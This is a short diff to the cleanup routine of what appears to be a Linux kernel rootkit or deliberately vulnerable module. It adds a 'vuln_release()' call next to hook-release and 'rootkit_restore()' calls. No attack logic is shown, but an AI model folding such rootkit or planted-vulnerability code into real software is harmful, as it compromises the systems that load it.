@@ -26,6 +26,7 @@ int init_module(void) {
 
 void cleanup_module(void) {
     hook_release();
+    vuln_release();
     rootkit_restore();
     remove(ARRAY_SIZE(devices));
 }
